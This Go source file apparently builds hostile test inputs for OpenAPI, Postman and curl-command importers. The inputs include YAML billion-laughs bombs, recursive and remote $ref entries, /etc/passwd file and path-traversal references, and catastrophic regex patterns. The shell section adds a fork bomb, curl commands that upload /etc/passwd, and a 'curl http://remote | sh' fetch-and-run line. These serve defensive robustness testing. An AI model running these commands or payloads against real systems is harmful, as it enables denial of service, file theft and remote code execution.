package attack

import (
	"fmt"
	"strings"
)

// apiBombs returns hostile OpenAPI documents, collections and shell commands.
func apiBombs(remote string) []document {
	var all []document
	add := func(mediaType string, documents ...document) {
		for _, d := range documents {
			d.mediaType = mediaType
			all = append(all, d)
		}
	}
	add("application/yaml", yamlBombs()...)
	add("application/json", descriptionBombs(remote)...)
	add("application/json", collectionBombs()...)
	add("text/plain", shellBombs(remote)...)
	return all
}

const yamlHead = "openapi: 3.1.0\ninfo: {title: a, version: '1'}\npaths: {}\n"

func yamlBombs() []document {
	return []document{
		{name: "yaml: a billion laughs", value: func() string { return yamlHead + laughs("[", "]", "*a%d,") }},
		{name: "yaml: merge keys", value: func() string {
			var b strings.Builder
			b.WriteString(yamlHead + "x-m0: &m0 {a: 1, " + marker + ": 2}\n")
			for i := 1; i < 200; i++ {
				fmt.Fprintf(&b, "x-m%d: &m%d {<<: [%s*m%d], k%d: 1}\n", i, i, strings.Repeat(fmt.Sprintf("*m%d, ", i-1), 20), i-1, i)
			}
			return b.String()
		}},
		{name: "yaml: an alias to itself", value: func() string { return yamlHead + "x-a: &a [*a, *a, *a]\n" }},
		{name: "yaml: 100k flow brackets", value: around(yamlHead+"x-a: ", "[", 100_000, "")},
		{name: "yaml: 100k flow braces", value: around(yamlHead+"x-a: ", "{a: ", 100_000, "")},
		{name: "yaml: dashes", value: around(yamlHead+"x-a:\n  ", "- ", 300_000, "a\n")},
		{name: "yaml: question marks", value: around(yamlHead, "? ", 300_000, "a\n")},
		{name: "yaml: 60k keys", value: numbered(60_000, yamlHead, "x-%d: 1\n", "")},
		{name: "yaml: 60k equal keys", value: around(yamlHead, "x-"+marker+": 1\n", 30_000, "")},
		{name: "yaml: 60k anchors", value: numbered(60_000, yamlHead+"x-a:\n", " - &a%d 1\n", "")},
		{name: "yaml: nested blocks", value: func() string {
			var b strings.Builder
			b.WriteString(yamlHead)
			for i := range 1300 {
				b.WriteString(strings.Repeat(" ", i) + "x:\n")
			}
			return b.String()
		}},
		{name: "yaml: tags", value: around(yamlHead+"x-a: ", "!!binary ", 60_000, "a\n")},
		{name: "yaml: many documents", value: around("", "---\n"+yamlHead, 12_000, "")},
		{name: "yaml: a folded scalar", value: around(yamlHead+"x-a: >\n", "  a\n\n", 140_000, "")},
		{name: "yaml: quotes without end", value: around(yamlHead+"x-a: \"", marker+"\n ", 50_000, "")},
		{name: "yaml: numbers", value: around(yamlHead+"x-a: ", "9", 900_000, "\n")},
		{name: "yaml: sexagesimals", value: around(yamlHead+"x-a: 1", ":59", 300_000, "\n")},
		{name: "yaml: directives", value: around("", "%TAG !a! tag:"+marker+",1:\n", 20_000, "---\n"+yamlHead)},
	}
}

// laughs returns anchors that each refer to the previous one nine times.
func laughs(open, close, alias string) string {
	var b strings.Builder
	b.WriteString("x-0: &a0 " + open + marker + close + "\n")
	for i := 1; i < 30; i++ {
		fmt.Fprintf(&b, "x-%d: &a%d %s%s%s\n", i, i, open, strings.Repeat(fmt.Sprintf(alias, i-1), 9), close)
	}
	return b.String()
}

// description returns an OpenAPI document whose only operation uses the schema s0.
func description(schemas string) string {
	return `{"openapi":"3.1.0","info":{"title":"a","version":"1"},"servers":[{"url":"https://a.example"}],"paths":{"/a":{"post":{"requestBody":{"content":{"application/json":{"schema":{"$ref":"#/components/schemas/s0"}}}},"responses":{"200":{"description":"a"}}}}},"components":{"schemas":{` + schemas + `}}}`
}

func descriptionBombs(remote string) []document {
	ref := func(target string) func() string {
		return func() string {
			one := `{"$ref":"` + target + `"}`
			return `{"openapi":"3.0.3","info":{"title":"a","version":"1"},"paths":{"/a":` + one + `,"/b":{"get":{"parameters":[` + one + `],"requestBody":` + one + `,"responses":{"200":` + one + `}}}},"components":{"schemas":{"s0":` + one + `}}}`
		}
	}
	return []document{
		{name: "ref: to itself", value: func() string { return description(`"s0":{"$ref":"#/components/schemas/s0"}`) }},
		{name: "ref: two that name each other", value: func() string {
			return description(`"s0":{"properties":{"a":{"$ref":"#/components/schemas/s1"}}},"s1":{"properties":{"b":{"$ref":"#/components/schemas/s0"},"c":{"$ref":"#/components/schemas/s0"}}}`)
		}},
		{name: "ref: a chain of 10k", value: func() string {
			var b strings.Builder
			for i := range 10_000 {
				fmt.Fprintf(&b, `"s%d":{"$ref":"#/components/schemas/s%d"},`, i, i+1)
			}
			return description(b.String() + `"s10000":{"type":"string"}`)
		}},
		{name: "ref: a tree of 2^40", value: func() string {
			var b strings.Builder
			for i := range 40 {
				fmt.Fprintf(&b, `"s%d":{"properties":{"a":{"$ref":"#/components/schemas/s%d"},"b":{"$ref":"#/components/schemas/s%d"}}},`, i, i+1, i+1)
			}
			return description(b.String() + `"s40":{"type":"string"}`)
		}},
		{name: "ref: remote", value: ref("http://" + remote + "/" + marker)},
		{name: "ref: remote without a scheme", value: ref("//" + remote + "/a.yaml#/b")},
		{name: "ref: a file", value: ref("file:///etc/passwd")},
		{name: "ref: a path", value: ref("../../../../etc/passwd")},
		{name: "ref: long", value: ref("#" + strings.Repeat("/~1", 40_000))},
		{name: "servers, docs and schemas elsewhere", value: func() string {
			u := "http://" + remote + "/" + marker
			return `{"openapi":"3.1.0","jsonSchemaDialect":"` + u + `","$schema":"` + u + `","$id":"` + u + `","info":{"title":"a","version":"1","termsOfService":"` + u + `"},"externalDocs":{"url":"` + u + `"},"servers":[{"url":"` + u + `"}],"paths":{"/a":{"get":{"responses":{"200":{"description":"a","content":{"application/json":{"examples":{"a":{"externalValue":"` + u + `"}}}}}}}}}}`
		}},
		{name: "servers of 10k variables", value: numbered(10_000, `{"openapi":"3.0.3","info":{"title":"a","version":"1"},"paths":{},"servers":[{"url":"https://{v0}.example","variables":{`, `"v%d":{"default":"{v0}{v1}"},`, `"z":{"default":"a"}}}]}`)},
		{name: "10k paths", value: numbered(10_000, `{"openapi":"3.0.3","info":{"title":"a","version":"1"},"paths":{`, `"/p%d/{a}/{b}":{"get":{"responses":{}}},`, `"/z":{}}}`)},
		{name: "deep schema", value: func() string { return description(`"s0":` + nested(`{"items":`, "{}", "}", 60_000)()) }},
		{name: "patterns", value: func() string {
			return description(`"s0":{"type":"string","pattern":"` + nested("(", "a", "+)+", 100_000)() + `"}`)
		}},
		{name: "huge numbers", value: func() string {
			return description(`"s0":{"maximum":1e1000000000,"minLength":` + strings.Repeat("9", 300_000) + `}`)
		}},
	}
}

func collectionBombs() []document {
	const schema = `"schema":"https://schema.getpostman.com/json/collection/v2.1.0/collection.json"`
	const head = `{"info":{"name":"a",` + schema + `},"item":[`
	return []document{
		{name: "postman: 20k nested folders", value: nested(`{"name":"f","item":[`, "", "]}", 20_000)},
		{name: "postman: nested folders in a collection", value: func() string { return head + nested(`{"name":"f","item":[`, "", "]}", 20_000)() + "]}" }},
		{name: "postman: 100 folders deep, wide inside", value: func() string {
			return head + strings.Repeat(`{"name":"f","item":[`, 100) + strings.Repeat(`{"name":"`+marker+`","request":"https://a.example"},`, 10_000) + `{}` + strings.Repeat("]}", 100) + "]}"
		}},
		{name: "postman: variables that name each other", value: func() string {
			var b strings.Builder
			for i := range 5000 {
				fmt.Fprintf(&b, `{"key":"v%d","value":"{{v%d}}{{v%d}}"},`, i, i+1, i+1)
			}
			return head + `{"name":"a","request":{"method":"GET","url":"https://{{v0}}.example/{{v0}}"}}],"variable":[` + b.String() + `{"key":"v5000","value":"` + marker + `"}]}`
		}},
		{name: "postman: braces", value: func() string {
			return head + `{"name":"a","request":{"method":"GET","url":"https://a.example/` + strings.Repeat("{{", 400_000) + `"}}]}`
		}},
		{name: "postman: one long URL", value: func() string {
			return head + `{"name":"a","request":{"method":"GET","url":"https://a.example/?` + strings.Repeat("a=b&", 200_000) + `"}}]}`
		}},
		{name: "postman: 20k headers", value: func() string {
			return head + `{"name":"a","request":{"method":"GET","url":"https://a.example","header":[` + strings.Repeat(`{"key":"a","value":"b"},`, 20_000) + `{"key":"a","value":"b"}]}}]}`
		}},
	}
}

func shellBombs(remote string) []document {
	const curl = "curl https://a.example/" + marker + " "
	return []document{
		{name: "shell: open parentheses", value: repeat("(", full)},
		{name: "shell: substitutions", value: around("curl ", "$(", 400_000, "")},
		{name: "shell: closed substitutions", value: around("curl ", "$(", 200_000, "echo "+marker+strings.Repeat(")", 200_000))},
		{name: "shell: backquotes", value: around("curl ", "`", full-10, "")},
		{name: "shell: escaped backquotes", value: around("curl ", "`\\", 150_000, "")},
		{name: "shell: nested expansions", value: nested("curl ${a:-", marker, "}", 80_000)},
		{name: "shell: arithmetic", value: around("curl ", "$((", 200_000, "")},
		{name: "shell: here-documents", value: around("curl ", "<<A ", 100_000, "\n"+marker+"\nA\n")},
		{name: "shell: a here-document without end", value: around("curl -d @- https://a.example <<EOF\n", marker+"\n", 50_000, "")},
		{name: "shell: brace expansion", value: around("curl https://a.example/", "{a,b}", 150_000, "")},
		{name: "shell: globbing of curl", value: around("curl https://a.example/", "[1-999999999]", 70_000, "")},
		{name: "shell: continuations", value: around("curl ", "\\\n", 250_000, "https://a.example")},
		{name: "shell: braces", value: repeat("{ ", 400_000)},
		{name: "shell: conditions", value: repeat("if ", 300_000)},
		{name: "shell: functions", value: repeat("f() { ", 150_000)},
		{name: "shell: a fork bomb", value: func() string { return ":(){ :|:& };: ; " + curl }},
		{name: "shell: 20k commands", value: repeat(curl+";", 20_000)},
		{name: "shell: 50k headers", value: around(curl, "-H a:b ", 100_000, "")},
		{name: "shell: 100k data", value: around(curl, "-d a ", 100_000, "")},
		{name: "shell: one long word", value: around(curl+"-d '", marker, 60_000, "'")},
		{name: "shell: quotes in turns", value: around(curl, `"'"'`, 170_000, "")},
		{name: "shell: ANSI-C quotes", value: around(curl+"-d $'", `\x41`, 200_000, "'")},
		{name: "shell: files", value: func() string {
			return curl + "-d @/etc/passwd -T /etc/passwd -F a=@/etc/passwd -K /etc/passwd -H @/etc/passwd --netrc-file /etc/passwd; " +
				curl + `-d "$(cat /etc/passwd)" -d "$(</etc/passwd)" < /etc/passwd`
		}},
		{name: "shell: commands that would run", value: func() string {
			return "curl http://" + remote + "/$(curl http://" + remote + ") -x http://" + remote + " `touch /tmp/" + marker + "`; curl http://" + remote + " | sh"
		}},
		{name: "shell: pipes", value: around(curl, "| cat ", 150_000, "")},
		{name: "shell: redirections", value: around(curl, ">/tmp/"+marker+" ", 25_000, "")},
	}
}
